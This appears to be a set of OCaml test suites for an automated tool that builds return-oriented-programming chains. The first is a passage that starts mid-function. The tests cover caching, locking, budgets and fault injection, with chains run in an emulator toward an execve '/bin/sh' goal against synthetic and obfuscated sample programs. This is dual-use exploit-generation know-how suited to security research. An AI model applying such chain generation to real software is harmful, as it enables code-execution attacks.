            Alcotest.(check string) "post-fault request unpoisoned" reference
              (Sv.report_encode r)
          | Error f ->
            Alcotest.failf "clean request failed: %s"
              (Gp_core.Fail.to_string f));
          Sv.Client.close cl2)
  in
  ()

(* ----- graceful coexistence: CLI vs the daemon's lock ----- *)

let test_cli_demotes_when_daemon_holds_lock () =
  let dir = tmp_dir () in
  let rq = one_request () in
  (* seed a store on disk *)
  E.reset_world ();
  ignore (Sv.handle rq);
  (match Gp_core.Incr.save ~dir with
  | Ok () -> ()
  | Error why -> Alcotest.failf "seed save: %s" why);
  let read_file p =
    let ic = open_in_bin p in
    let s = really_input_string ic (in_channel_length ic) in
    close_in ic;
    s
  in
  let store_path = Gp_core.Incr.path ~dir in
  let before = read_file store_path in
  (* stand in for the daemon process: hold the dir's advisory lock the
     way [journal_open] does (same [.store.lock] name).  From this
     process's own journal [Incr.save] would legitimately skip locking,
     so the foreign-holder case is modeled with a bare [Store.try_lock]. *)
  E.reset_world ();
  let lock =
    match Gp_util.Store.try_lock ~name:".store.lock" dir with
    | Ok l -> l
    | Error who -> Alcotest.failf "seed lock refused: %s" who
  in
  (* a second writer must refuse cleanly... *)
  (match Gp_core.Incr.save ~dir with
  | Ok () -> Alcotest.fail "save must refuse a locked dir"
  | Error why ->
    Alcotest.(check bool) "save_locked recognizes the demotion" true
      (Gp_core.Incr.save_locked why));
  (* ...and the full CLI pipeline demotes to read-only: completes, the
     skipped save quarantined under store-locked, store bytes
     untouched *)
  let o =
    Gp_core.Api.run ~cache_dir:dir
      ~planner_config:(Sv.planner_config_of rq)
      ~ids:(Gp_core.Gadget.local_ids ())
      rq.Sv.rq_image
      (Sv.goal_of_name rq.Sv.rq_goal)
  in
  Alcotest.(check bool) "read-only run quarantines store-locked" true
    (List.mem_assoc "store-locked" o.Gp_core.Api.stats.Gp_core.Api.quarantined);
  Alcotest.(check int) "exit code class is a store problem" 78
    (Gp_core.Fail.exit_code_of_label "store-locked");
  Alcotest.(check string) "store bytes untouched by the demoted run" before
    (read_file store_path);
  Gp_util.Store.unlock lock;
  (* lock released: a saver succeeds again *)
  (match Gp_core.Incr.save ~dir with
  | Ok () -> ()
  | Error why -> Alcotest.failf "save after release: %s" why);
  E.reset_world ();
  E.rm_rf dir

(* ----- the daemon crash story ----- *)

let test_daemon_crash_abandons_journal () =
  let dir = tmp_dir () in
  let rq = one_request () in
  (match
     Fault.with_crash_at ~hits:5 ~point:"wal-append" (fun () ->
         with_daemon ~cache_dir:dir ~jobs:1 (fun ~sock:_ cl ->
             match Sv.Client.submit cl rq with
             | Ok _ -> Alcotest.fail "request outlived an armed wal crash"
             | Error _ -> ()))
   with
  | Error "wal-append" -> ()
  | Error p -> Alcotest.failf "crashed at unexpected point %s" p
  | Ok _ -> Alcotest.fail "crash fuse never blew");
  (* abandon released the lock without flushing: the dir reopens in
     journaling mode and replays whatever prefix reached the disk *)
  E.reset_world ();
  let jo = Gp_core.Incr.journal_open ~dir in
  (match jo.Gp_core.Incr.jo_mode with
  | `Journaling -> ()
  | `Read_only why ->
    Alcotest.failf "crashed daemon still holds the lock: %s" why);
  (match Gp_core.Incr.journal_close () with
  | Ok () -> ()
  | Error why -> Alcotest.failf "journal_close after crash: %s" why);
  E.reset_world ();
  E.rm_rf dir

let suite =
  [ Alcotest.test_case "frame round-trip" `Quick test_frame_roundtrip;
    Alcotest.test_case "frame incremental parse" `Quick test_frame_incremental;
    Alcotest.test_case "frame malformed prefixes" `Quick test_frame_malformed;
    QCheck_alcotest.to_alcotest qcheck_frame_roundtrip;
    QCheck_alcotest.to_alcotest qcheck_frame_truncation;
    QCheck_alcotest.to_alcotest qcheck_frame_bitflip;
    Alcotest.test_case "request codec round-trip" `Quick
      test_request_codec_roundtrip;
    Alcotest.test_case "report codec round-trip" `Quick
      test_report_codec_roundtrip;
    QCheck_alcotest.to_alcotest qcheck_cache_model;
    Alcotest.test_case "cache first-write-wins across shards" `Quick
      test_cache_first_write_wins;
    Alcotest.test_case "cache 4-domain stress" `Quick test_cache_stress_domains;
    QCheck_alcotest.to_alcotest qcheck_incr_model;
    Alcotest.test_case "incr 4-domain stress" `Quick test_incr_stress_domains;
    Alcotest.test_case "service runs everything" `Quick test_service_runs_all;
    Alcotest.test_case "service chained resubmission" `Quick
      test_service_chained;
    Alcotest.test_case "service fatal worker exception" `Quick
      test_service_fatal;
    Alcotest.test_case "daemon differential vs CLI path" `Quick
      test_daemon_differential;
    Alcotest.test_case "daemon batched checkpoints" `Quick
      test_daemon_checkpoints;
    Alcotest.test_case "fp counters surfaced, parity preserved" `Quick
      test_fp_counters_surfaced;
    Alcotest.test_case "wire-fault modes quarantined, caches unpoisoned"
      `Quick test_wire_fault_modes;
    Alcotest.test_case "keyed wire faults via Faultsim" `Quick
      test_wire_faults_via_faultsim;
    Alcotest.test_case "CLI demotes when daemon holds the lock" `Quick
      test_cli_demotes_when_daemon_holds_lock;
    Alcotest.test_case "daemon crash abandons the journal" `Quick
      test_daemon_crash_abandons_journal ]
