(* Incremental-store tests (DESIGN.md §11).  Three angles:

   - differential: `cache_dir:Some` — cold write, then warm read — is
     bit-identical to `cache_dir:None` across survey cells, at jobs 1
     and 4 (the store must be semantically invisible at any temperature
     and any domain count);
   - serialization properties: term/summary encodings round-trip
     byte-stably, and interned vs non-interned copies of a term
     serialize identically;
   - resilience: a corrupted, truncated, or stale-versioned store file
     demotes the run to cold — correct results, [store_stale] counted,
     a "store" entry in the quarantine ledger, never an exception.

   The differential cases honor the JOBS environment variable like
   test_par, so `make check-incr` sweeps job counts without editing
   code. *)

let jobs_under_test =
  match Sys.getenv_opt "JOBS" with
  | Some s -> (try max 1 (int_of_string s) with _ -> 4)
  | None -> 4

let reset = Gp_harness.Experiments.reset_world

let compile prog cname =
  let entry = Gp_corpus.Programs.find prog in
  let cfg = List.assoc cname Gp_harness.Workspace.obf_configs in
  Gp_codegen.Pipeline.compile ~transform:(Gp_obf.Obf.transform cfg)
    entry.Gp_corpus.Programs.source

let tmp_dir =
  let n = ref 0 in
  fun () ->
    incr n;
    let d =
      Filename.concat (Filename.get_temp_dir_name ())
        (Printf.sprintf "gp-incr-test-%d-%d" (Unix.getpid ()) !n)
    in
    Gp_harness.Experiments.rm_rf d;
    d

(* Everything in an analysis that must not depend on the store: the
   pool (addresses in order), the census, and the quarantine ledger.
   Cache hit/miss counters are deliberately absent — hit rate is a
   property of cache temperature, not of verdicts. *)
let fingerprint (a : Gp_core.Api.analysis) =
  ( List.map (fun (g : Gp_core.Gadget.t) -> g.Gp_core.Gadget.addr)
      a.Gp_core.Api.gadgets,
    a.Gp_core.Api.raw_extracted,
    List.filter
      (fun (label, _) -> label <> "store")
      a.Gp_core.Api.quarantined,
    a.Gp_core.Api.analysis_budget_hits )

let analyze ?cache_dir ~jobs image =
  reset ();
  Gp_core.Api.analyze ~jobs ?cache_dir image

(* ----- differential: cache_dir:Some == cache_dir:None ----- *)

let diff_cells =
  [ ("fibonacci", "original"); ("fibonacci", "llvm-obf");
    ("fibonacci", "tigress"); ("crc_check", "original");
    ("crc_check", "llvm-obf"); ("crc_check", "tigress") ]

let check_differential jobs () =
  List.iter
    (fun (prog, cname) ->
      let image = compile prog cname in
      let cell = prog ^ "/" ^ cname in
      let reference = fingerprint (analyze ~jobs image) in
      let dir = tmp_dir () in
      let cold = analyze ~cache_dir:dir ~jobs image in
      Alcotest.(check bool)
        (cell ^ ": cold write identical") true
        (fingerprint cold = reference);
      Alcotest.(check int)
        (cell ^ ": cold run loads nothing") 0
        cold.Gp_core.Api.analysis_store_loaded;
      let warm = analyze ~cache_dir:dir ~jobs image in
      Alcotest.(check bool)
        (cell ^ ": warm read identical") true
        (fingerprint warm = reference);
      Alcotest.(check bool)
        (cell ^ ": warm run imported the store") true
        (warm.Gp_core.Api.analysis_store_loaded > 0);
      Alcotest.(check int)
        (cell ^ ": warm run has no summary misses") 0
        warm.Gp_core.Api.analysis_summary_misses;
      Alcotest.(check bool)
        (cell ^ ": warm run hits the summary store") true
        (warm.Gp_core.Api.analysis_summary_hits > 0);
      Gp_harness.Experiments.rm_rf dir)
    diff_cells

let check_differential_run () =
  let image = compile "bubble_sort" "llvm-obf" in
  let jobs = jobs_under_test in
  let outcome_fp (o : Gp_core.Api.outcome) =
    let s = o.Gp_core.Api.stats in
    ( List.sort compare
        (List.map Gp_core.Payload.chain_key o.Gp_core.Api.chains),
      s.Gp_core.Api.pool_size, s.Gp_core.Api.plans_found,
      s.Gp_core.Api.chains_validated, List.length o.Gp_core.Api.rungs )
  in
  let run ?cache_dir () =
    reset ();
    outcome_fp
      (Gp_core.Api.run ~jobs ?cache_dir image
         (Gp_core.Goal.Execve "/bin/sh"))
  in
  let reference = run () in
  let dir = tmp_dir () in
  let cold = run ~cache_dir:dir () in
  let warm = run ~cache_dir:dir () in
  Alcotest.(check bool) "full run: cold write identical" true
    (cold = reference);
  Alcotest.(check bool) "full run: warm read identical" true
    (warm = reference);
  Gp_harness.Experiments.rm_rf dir

(* ----- counters: deterministic aggregation across job counts ----- *)

let check_counters () =
  let image = compile "bubble_sort" "tigress" in
  let dir = tmp_dir () in
  ignore (analyze ~cache_dir:dir ~jobs:1 image);
  let cold1 = analyze ~jobs:1 image and cold4 = analyze ~jobs:4 image in
  (* the examined-start set is scheduling-independent, so hits+misses
     must agree across job counts even though the cold split is a race *)
  Alcotest.(check int) "cold hits+misses agree across jobs"
    (cold1.Gp_core.Api.analysis_summary_hits
     + cold1.Gp_core.Api.analysis_summary_misses)
    (cold4.Gp_core.Api.analysis_summary_hits
     + cold4.Gp_core.Api.analysis_summary_misses);
  Alcotest.(check bool) "decode memo saves work" true
    (cold1.Gp_core.Api.analysis_decode_saved > 0);
  (* with every entry preloaded, every counter is deterministic *)
  let warm1 = analyze ~cache_dir:dir ~jobs:1 image in
  let warm4 = analyze ~cache_dir:dir ~jobs:4 image in
  Alcotest.(check int) "warm hits agree across jobs"
    warm1.Gp_core.Api.analysis_summary_hits
    warm4.Gp_core.Api.analysis_summary_hits;
  Alcotest.(check int) "warm misses agree across jobs"
    warm1.Gp_core.Api.analysis_summary_misses
    warm4.Gp_core.Api.analysis_summary_misses;
  Alcotest.(check int) "warm decode savings agree across jobs"
    warm1.Gp_core.Api.analysis_decode_saved
    warm4.Gp_core.Api.analysis_decode_saved;
  Gp_harness.Experiments.rm_rf dir

(* ----- serialization properties ----- *)

let term_bytes t =
  let w = Gp_smt.Term.Ser.writer () in
  let b = Buffer.create 64 in
  Gp_smt.Term.Ser.put w b t;
  Buffer.contents b

let qcheck_term_roundtrip =
  QCheck2.Test.make ~count:500 ~name:"term Ser round-trip, intern-stable"
    Gen.term (fun t ->
      let bytes = term_bytes t in
      (* interned and raw copies serialize identically *)
      let interned = term_bytes (Gp_smt.Term.intern t) in
      let r = Gp_smt.Term.Ser.reader () in
      let pos = ref 0 in
      let back = Gp_smt.Term.Ser.get r bytes pos in
      bytes = interned
      && !pos = String.length bytes
      && Gp_smt.Term.to_string back = Gp_smt.Term.to_string t
      && term_bytes back = bytes)

(* Round-trip real summaries: random start offsets in a compiled image
   drive [summarize_r]; the encoding must be byte-stable through a
   read/write cycle and rebase back to the original address. *)
let qcheck_summary_roundtrip =
  let image = compile "stack_machine" "tigress" in
  let code_size = Gp_util.Image.code_size image in
  let base = image.Gp_util.Image.code_base in
  QCheck2.Test.make ~count:300 ~name:"summary serialization round-trip"
    (QCheck2.Gen.int_range 0 (code_size - 1))
    (fun pos ->
      let addr = Int64.add base (Int64.of_int pos) in
      let v = Gp_symx.Exec.summarize_r image addr in
      let bytes = Gp_symx.Exec.write_summaries v in
      let ss, refused = Gp_symx.Exec.read_summaries bytes in
      let orig_ss, orig_refused = v in
      refused = orig_refused
      && List.for_all (fun s -> s.Gp_symx.Exec.s_addr = 0L) ss
      && Gp_symx.Exec.write_summaries (ss, refused) = bytes
      && List.for_all2
           (fun roundtripped original ->
             let r = Gp_symx.Exec.rebase ~addr roundtripped in
             r.Gp_symx.Exec.s_addr = original.Gp_symx.Exec.s_addr
             && r.Gp_symx.Exec.s_insns = original.Gp_symx.Exec.s_insns
             && r.Gp_symx.Exec.s_jump = original.Gp_symx.Exec.s_jump)
           ss orig_ss)

(* ----- resilience: damaged stores demote to cold ----- *)

let store_quarantine (a : Gp_core.Api.analysis) =
  try List.assoc "store" a.Gp_core.Api.quarantined with Not_found -> 0

let check_demoted ~what dir image reference =
  let a = analyze ~cache_dir:dir ~jobs:jobs_under_test image in
  Alcotest.(check bool) (what ^ ": results identical to cold") true
    (fingerprint a = reference);
  Alcotest.(check int) (what ^ ": store counted as stale") 1
    a.Gp_core.Api.analysis_store_stale;
  Alcotest.(check int) (what ^ ": nothing imported") 0
    a.Gp_core.Api.analysis_store_loaded;
  Alcotest.(check int) (what ^ ": quarantine ledger records it") 1
    (store_quarantine a)

let prime dir image =
  Gp_harness.Experiments.rm_rf dir;
  ignore (analyze ~cache_dir:dir ~jobs:jobs_under_test image);
  Gp_core.Incr.path ~dir

let check_corrupt_store () =
  let image = compile "fibonacci" "llvm-obf" in
  let reference = fingerprint (analyze ~jobs:jobs_under_test image) in
  let dir = tmp_dir () in
  (* bit flips: retry with denser rates until at least one byte flips *)
  let path = prime dir image in
  let rec flip rate =
    if Gp_harness.Faultsim.corrupt_file ~rate path = 0 then flip (rate *. 4.)
  in
  flip 0.0005;
  check_demoted ~what:"corrupt" dir image reference;
  (* truncation *)
  let path = prime dir image in
  let n = (Unix.stat path).Unix.st_size in
  Unix.truncate path (n / 3);
  check_demoted ~what:"truncated" dir image reference;
  (* stale schema version *)
  let path = prime dir image in
  (match
     Gp_util.Store.save ~schema:(Gp_core.Incr.schema_version + 1) path []
   with
  | Ok () -> ()
  | Error why -> Alcotest.fail ("could not write stale store: " ^ why));
  check_demoted ~what:"stale" dir image reference;
  (* and a rejected store never breaks the warm path afterwards *)
  let _ = prime dir image in
  let warm = analyze ~cache_dir:dir ~jobs:jobs_under_test image in
  Alcotest.(check bool) "store recovers after re-prime" true
    (warm.Gp_core.Api.analysis_store_loaded > 0
     && fingerprint warm = reference);
  Gp_harness.Experiments.rm_rf dir

let check_store_classification () =
  let dir = tmp_dir () in
  Gp_harness.Experiments.rm_rf dir;
  let path = Filename.concat dir "t.gpst" in
  (match Gp_util.Store.load ~schema:1 path with
  | Error Gp_util.Store.Missing -> ()
  | _ -> Alcotest.fail "missing file must classify as Missing");
  (match Gp_util.Store.save ~schema:1 path [] with
  | Ok () -> ()
  | Error why -> Alcotest.fail why);
  (match Gp_util.Store.load ~schema:2 path with
  | Error (Gp_util.Store.Stale _) -> ()
  | _ -> Alcotest.fail "schema mismatch must classify as Stale");
  let sections =
    [ { Gp_util.Store.name = "s"; entries = [ ("k", "v") ] } ]
  in
  (match Gp_util.Store.save ~schema:1 path sections with
  | Ok () -> ()
  | Error why -> Alcotest.fail why);
  (match Gp_util.Store.load ~schema:1 path with
  | Ok [ { Gp_util.Store.name = "s"; entries = [ ("k", "v") ] } ] -> ()
  | _ -> Alcotest.fail "intact store must round-trip");
  ignore (Gp_harness.Faultsim.corrupt_file ~rate:0.2 path);
  (match Gp_util.Store.load ~schema:1 path with
  | Error (Gp_util.Store.Corrupt _) -> ()
  | _ -> Alcotest.fail "flipped bytes must classify as Corrupt");
  Gp_harness.Experiments.rm_rf dir

let suite =
  [ Alcotest.test_case "differential: cache_dir jobs=1" `Slow
      (check_differential 1);
    Alcotest.test_case
      (Printf.sprintf "differential: cache_dir jobs=%d" jobs_under_test)
      `Slow
      (check_differential jobs_under_test);
    Alcotest.test_case "differential: full run with cache_dir" `Slow
      check_differential_run;
    Alcotest.test_case "counters aggregate deterministically" `Slow
      check_counters;
    QCheck_alcotest.to_alcotest qcheck_term_roundtrip;
    QCheck_alcotest.to_alcotest qcheck_summary_roundtrip;
    Alcotest.test_case "corrupt/truncated/stale store demotes to cold"
      `Slow check_corrupt_store;
    Alcotest.test_case "store load classification" `Quick
      check_store_classification ]
