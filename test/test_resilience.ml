(* Resilience layer tests: budgets, fault quarantine, the degradation
   ladder, and deterministic fault injection (DESIGN.md "Failure model &
   budgets").  The invariant under test throughout: no uncaught
   exception ever escapes Api.analyze / Api.run, whatever is injected,
   and every run terminates with a well-formed outcome. *)

open Gp_x86

let image_of insns =
  Gp_util.Image.create ~entry:0x400000L ~code:(Encode.insns insns)
    ~data:(Bytes.create 16) ()

(* The planner-test synthetic program: pop gadgets for every execve
   register plus a syscall. *)
let synthetic_image () =
  image_of
    [ Insn.Pop Reg.RAX; Insn.Ret;
      Insn.Pop Reg.RDI; Insn.Ret;
      Insn.Pop Reg.RSI; Insn.Ret;
      Insn.Pop Reg.RDX; Insn.Ret;
      Insn.Syscall;
      Insn.Hlt ]

let fib_image =
  lazy
    (Gp_codegen.Pipeline.compile
       ~transform:(Gp_obf.Obf.transform Gp_obf.Obf.none)
       (Gp_corpus.Programs.find "fibonacci").Gp_corpus.Programs.source)

let planner_config =
  { Gp_core.Planner.max_plans = 4; node_budget = 1200; time_budget = 10.;
    branch_cap = 10; goal_cap = 6; max_steps = 14 }

(* ----- Budget unit tests ----- *)

let test_budget_fuel () =
  let b = Gp_core.Budget.create ~label:"t" ~fuel:2 () in
  Gp_core.Budget.check b;
  Gp_core.Budget.spend b;
  Gp_core.Budget.check b;
  Gp_core.Budget.spend b;
  (match Gp_core.Budget.check b with
   | () -> Alcotest.fail "fuel 0 must raise"
   | exception Gp_core.Budget.Exhausted ("t", Gp_core.Budget.Fuel) -> ());
  Alcotest.(check bool) "exhausted" true (Gp_core.Budget.exhausted b);
  Alcotest.(check bool) "hit recorded" true
    (Gp_core.Budget.hit b = Some Gp_core.Budget.Fuel)

let test_budget_deadline_and_monotonic_clock () =
  let t = ref 1000. in
  Fun.protect ~finally:Gp_core.Budget.reset_clock (fun () ->
      Gp_core.Budget.set_clock (fun () -> !t);
      let b = Gp_core.Budget.create ~label:"d" ~seconds:50. () in
      Gp_core.Budget.check b;
      Alcotest.(check bool) "not yet" false (Gp_core.Budget.exhausted b);
      (* the clock stepping BACKWARDS must not re-open anything later *)
      t := 900.;
      Alcotest.(check bool) "clamped" true (Gp_core.Budget.now () >= 1000.);
      t := 1051.;
      Alcotest.(check bool) "deadline passed" true (Gp_core.Budget.exhausted b);
      (match
         (* polls read the clock every 32nd call: drain a window *)
         for _ = 1 to 64 do Gp_core.Budget.check b done
       with
       | () -> Alcotest.fail "deadline must raise"
       | exception Gp_core.Budget.Exhausted ("d", Gp_core.Budget.Deadline) -> ()))

let test_budget_sub_inherits_deadline () =
  let parent = Gp_core.Budget.create ~seconds:100. () in
  let child = Gp_core.Budget.sub parent ~label:"c" ~seconds:5. () in
  Alcotest.(check bool) "child slice" true
    (Gp_core.Budget.remaining_seconds child <= 5.);
  let wide = Gp_core.Budget.sub parent ~label:"w" ~seconds:1000. () in
  (* a child can never outlive its parent *)
  Alcotest.(check bool) "clamped to parent" true
    (Gp_core.Budget.remaining_seconds wide <= 100.);
  let half = Gp_core.Budget.sub parent ~label:"h" ~fraction:0.5 () in
  let r = Gp_core.Budget.remaining_seconds half in
  Alcotest.(check bool) "fraction slice" true (r > 10. && r <= 51.);
  (* unlimited stays unlimited through fractions *)
  let u = Gp_core.Budget.unlimited () in
  let uc = Gp_core.Budget.sub u ~fraction:0.5 () in
  Alcotest.(check bool) "unlimited child" true
    (Gp_core.Budget.remaining_seconds uc = infinity)

let test_emu_fuel () =
  Alcotest.(check int) "unlimited yields cap" 5_000_000
    (Gp_core.Budget.emu_fuel (Gp_core.Budget.unlimited ()));
  let tight = Gp_core.Budget.create ~seconds:0.01 () in
  let f = Gp_core.Budget.emu_fuel ~per_second:1_000 ~cap:5_000_000 tight in
  Alcotest.(check bool) "scaled down" true (f >= 1 && f <= 20);
  let dead = Gp_core.Budget.create ~seconds:(-1.) () in
  Alcotest.(check int) "dead budget" 0 (Gp_core.Budget.emu_fuel dead)

let test_fail_tally () =
  let t = Gp_core.Fail.tally_create () in
  Gp_core.Fail.tally_add t (Gp_core.Fail.Decode_fault (1L, "x"));
  Gp_core.Fail.tally_add t (Gp_core.Fail.Decode_fault (2L, "y"));
  Gp_core.Fail.tally_add t (Gp_core.Fail.Solver_unknown "z");
  Alcotest.(check int) "decode" 2 (Gp_core.Fail.tally_count t "decode");
  Alcotest.(check int) "total" 3 (Gp_core.Fail.tally_total t);
  Alcotest.(check (list (pair string int)))
    "merge"
    [ ("decode", 3); ("solver-unknown", 1) ]
    (Gp_core.Fail.merge_counts (Gp_core.Fail.tally_list t) [ ("decode", 1) ])

(* ----- fault distinction in the emulator ----- *)

let test_timeout_vs_fault () =
  (* an infinite loop times out; it does not fault *)
  let looping = image_of [ Insn.Jmp (-5) ] in
  (match Gp_emu.Machine.run ~fuel:100 (Gp_emu.Machine.create looping) with
   | Gp_emu.Machine.Timeout -> ()
   | o -> Alcotest.failf "loop: expected Timeout, got %s"
            (match o with
             | Gp_emu.Machine.Fault m -> "Fault " ^ m
             | Gp_emu.Machine.Exited _ -> "Exited"
             | _ -> "Attacked"));
  (* an unmapped read faults; it does not time out *)
  let crashing = image_of [ Insn.Mov (Insn.Reg Reg.RAX, Insn.Mem (Insn.mem Reg.RAX)) ] in
  (match Gp_emu.Machine.run ~fuel:100 (Gp_emu.Machine.create crashing) with
   | Gp_emu.Machine.Fault _ -> ()
   | _ -> Alcotest.fail "unmapped read must Fault")

let test_validate_run_distinguishes () =
  let image = Lazy.force fib_image in
  let a = Gp_core.Api.analyze image in
  let o =
    Gp_core.Api.run_with_analysis ~planner_config a
      (Gp_core.Goal.Execve "/bin/sh")
  in
  match o.Gp_core.Api.chains with
  | [] -> Alcotest.fail "expected chains on fibonacci"
  | c :: _ ->
    (match Gp_core.Payload.validate_run image c with
     | Gp_emu.Machine.Attacked _ -> ()
     | _ -> Alcotest.fail "full fuel must reach the goal");
    (match Gp_core.Payload.validate_run ~fuel:1 image c with
     | Gp_emu.Machine.Timeout -> ()
     | _ -> Alcotest.fail "fuel 1 must Timeout, not Fault")

(* ----- quarantine paths ----- *)

let test_truncated_decode_at_edge () =
  (* valid gadgets followed by a lone REX prefix: the truncated window
     must be skipped, never thrown on *)
  let good = Encode.insns [ Insn.Pop Reg.RDI; Insn.Ret ] in
  let code = Bytes.cat good (Bytes.of_string "\x48") in
  let image = Gp_util.Image.create ~entry:0x400000L ~code ~data:(Bytes.create 16) () in
  let a = Gp_core.Api.analyze image in
  Alcotest.(check bool) "pop rdi survives" true
    (List.exists
       (fun (g : Gp_core.Gadget.t) -> g.Gp_core.Gadget.addr = 0x400000L)
       a.Gp_core.Api.gadgets)

let test_chaos_decode_quarantines () =
  let image = synthetic_image () in
  let saved = !Gp_core.Extract.chaos_decode in
  Fun.protect
    ~finally:(fun () -> Gp_core.Extract.chaos_decode := saved)
    (fun () ->
      (* poison exactly the pop-rdi start *)
      Gp_core.Extract.chaos_decode := (fun addr -> addr = 0x400002L);
      let gadgets, st = Gp_core.Extract.harvest_r image in
      Alcotest.(check int) "one quarantined" 1
        (match List.assoc_opt "decode" st.Gp_core.Extract.h_quarantined with
         | Some n -> n
         | None -> 0);
      Alcotest.(check bool) "poisoned start gone" false
        (List.exists
           (fun (g : Gp_core.Gadget.t) -> g.Gp_core.Gadget.addr = 0x400002L)
           gadgets);
      Alcotest.(check bool) "other starts survive" true
        (List.exists
           (fun (g : Gp_core.Gadget.t) -> g.Gp_core.Gadget.addr = 0x400000L)
           gadgets))

let test_harvest_budget_cuts_short () =
  let image = Lazy.force fib_image in
  let full = Gp_core.Extract.harvest image in
  let cut, st =
    Gp_core.Extract.harvest_r ~budget:(Gp_core.Budget.create ~fuel:5 ()) image
  in
  Alcotest.(check bool) "budget hit" true st.Gp_core.Extract.h_budget_hit;
  Alcotest.(check int) "five starts examined" 5 st.Gp_core.Extract.h_starts;
  Alcotest.(check bool) "partial harvest" true
    (List.length cut < List.length full)

let test_subsume_budget_passes_through () =
  let image = synthetic_image () in
  let gadgets = Gp_core.Extract.harvest image in
  let _, full_stats = Gp_core.Subsume.minimize gadgets in
  Alcotest.(check bool) "full pass not timed out" false
    full_stats.Gp_core.Subsume.timed_out;
  let kept, st =
    Gp_core.Subsume.minimize ~budget:(Gp_core.Budget.create ~fuel:0 ()) gadgets
  in
  Alcotest.(check bool) "timed out" true st.Gp_core.Subsume.timed_out;
  (* dedup still ran; everything after it passed through unexamined *)
  Alcotest.(check int) "pass-through"
    st.Gp_core.Subsume.after_dedup (List.length kept)

let test_planner_budget_hit () =
  let image = synthetic_image () in
  let pool = Gp_core.Pool.build (Gp_core.Extract.harvest image) in
  let concrete = Gp_core.Goal.concretize image (Gp_core.Goal.Execve "/bin/sh") in
  let r =
    Gp_core.Planner.search
      ~config:{ planner_config with Gp_core.Planner.node_budget = 1 }
      pool concrete
  in
  Alcotest.(check bool) "budget hit" true r.Gp_core.Planner.budget_hit;
  Alcotest.(check bool) "not exhausted" false r.Gp_core.Planner.exhausted;
  Alcotest.(check int) "one expansion" 1 r.Gp_core.Planner.expanded

(* ----- fault injection ----- *)

let test_faultsim_solver_unknowns () =
  let sat_formula =
    Gp_smt.Formula.Eq (Gp_smt.Term.Const 1L, Gp_smt.Term.Const 1L)
  in
  let cfg = { Gp_harness.Faultsim.disabled with solver_rate = 1.; seed = 3 } in
  let u0 = Atomic.get Gp_smt.Solver.unknowns in
  Gp_harness.Faultsim.with_faults cfg (fun () ->
      match Gp_smt.Solver.check [ sat_formula ] with
      | Gp_smt.Solver.Unknown -> ()
      | _ -> Alcotest.fail "injected query must be Unknown");
  Alcotest.(check bool) "counter bumped" true
    (Atomic.get Gp_smt.Solver.unknowns > u0);
  (* hooks restored: the same query decides again *)
  match Gp_smt.Solver.check [ sat_formula ] with
  | Gp_smt.Solver.Sat _ -> ()
  | _ -> Alcotest.fail "hook not restored"

let test_faultsim_machine_fuse () =
  let looping = image_of [ Insn.Jmp (-5) ] in
  let cfg = { Gp_harness.Faultsim.disabled with mem_rate = 1.; seed = 5 } in
  Gp_harness.Faultsim.with_faults cfg (fun () ->
      match Gp_emu.Machine.run ~fuel:200_000 (Gp_emu.Machine.create looping) with
      | Gp_emu.Machine.Fault "injected fault" -> ()
      | _ -> Alcotest.fail "armed fuse must trip");
  match Gp_emu.Machine.run ~fuel:100 (Gp_emu.Machine.create looping) with
  | Gp_emu.Machine.Timeout -> ()
  | _ -> Alcotest.fail "fuse not disarmed"

let test_faultsim_clock_skips () =
  let cfg =
    { Gp_harness.Faultsim.disabled with
      clock_skip_rate = 1.; clock_skip_s = 10.; seed = 7 }
  in
  Gp_harness.Faultsim.with_faults cfg (fun () ->
      let b = Gp_core.Budget.create ~label:"skew" ~seconds:30. () in
      match
        for _ = 1 to 10_000 do Gp_core.Budget.check b done
      with
      | () -> Alcotest.fail "skipping clock must exhaust the deadline"
      | exception Gp_core.Budget.Exhausted ("skew", Gp_core.Budget.Deadline) ->
        ())

(* ----- pipeline-level behavior ----- *)

let test_run_matches_seed_pipeline () =
  (* with no budget and no injection, the ladder's Full rung IS the seed
     pipeline: same chains, and no further rung is attempted *)
  let image = Lazy.force fib_image in
  let goal = Gp_core.Goal.Execve "/bin/sh" in
  let a = Gp_core.Api.analyze image in
  let seed_o = Gp_core.Api.run_with_analysis ~planner_config a goal in
  let ladder_o = Gp_core.Api.run ~planner_config image goal in
  Alcotest.(check (list string))
    "same chains"
    (List.sort compare (List.map Gp_core.Payload.chain_set_key seed_o.Gp_core.Api.chains))
    (List.sort compare (List.map Gp_core.Payload.chain_set_key ladder_o.Gp_core.Api.chains));
  Alcotest.(check bool) "single Full rung" true
    (ladder_o.Gp_core.Api.rungs = [ Gp_core.Api.Full ]);
  Alcotest.(check bool) "chains found" true (ladder_o.Gp_core.Api.chains <> [])

let all_rungs =
  [ Gp_core.Api.Full; Gp_core.Api.Dedup_only; Gp_core.Api.Wider_branch;
    Gp_core.Api.Relaxed_steps ]

let test_ladder_descends_on_zero_chains () =
  (* no syscall gadget anywhere: every rung fails fast, all four are
     recorded, and the outcome is still well-formed *)
  let image = image_of [ Insn.Pop Reg.RDI; Insn.Ret; Insn.Hlt ] in
  let o = Gp_core.Api.run ~planner_config image (Gp_core.Goal.Execve "/bin/sh") in
  Alcotest.(check bool) "no chains" true (o.Gp_core.Api.chains = []);
  Alcotest.(check bool) "all rungs tried" true (o.Gp_core.Api.rungs = all_rungs)

let test_run_with_dead_budget () =
  (* a budget that is exhausted before stage 1 must still produce a
     well-formed outcome, with the hit recorded and no ladder descent *)
  let image = synthetic_image () in
  let o =
    Gp_core.Api.run ~planner_config
      ~budget:(Gp_core.Budget.create ~label:"dead" ~seconds:(-1.) ())
      image (Gp_core.Goal.Execve "/bin/sh")
  in
  Alcotest.(check bool) "no chains" true (o.Gp_core.Api.chains = []);
  Alcotest.(check bool) "rungs = [Full]" true
    (o.Gp_core.Api.rungs = [ Gp_core.Api.Full ]);
  Alcotest.(check bool) "extract hit recorded" true
    (List.mem "extract" o.Gp_core.Api.stats.Gp_core.Api.budget_hits)

let well_formed (o : Gp_core.Api.outcome) =
  let st = o.Gp_core.Api.stats in
  List.length o.Gp_core.Api.chains = st.Gp_core.Api.chains_validated
  && st.Gp_core.Api.chains_built >= st.Gp_core.Api.chains_validated
  && o.Gp_core.Api.rungs <> []
  && List.hd o.Gp_core.Api.rungs = Gp_core.Api.Full
  && List.for_all (fun (_, n) -> n > 0) st.Gp_core.Api.quarantined

let test_sweep_under_injection () =
  (* the acceptance criterion: 10% faults across decode/solver/memory, a
     bounded budget, and every (program x goal) run must terminate with
     a well-formed outcome and zero uncaught exceptions *)
  let image = Lazy.force fib_image in
  let cfg = Gp_harness.Faultsim.uniform ~seed:11 0.1 in
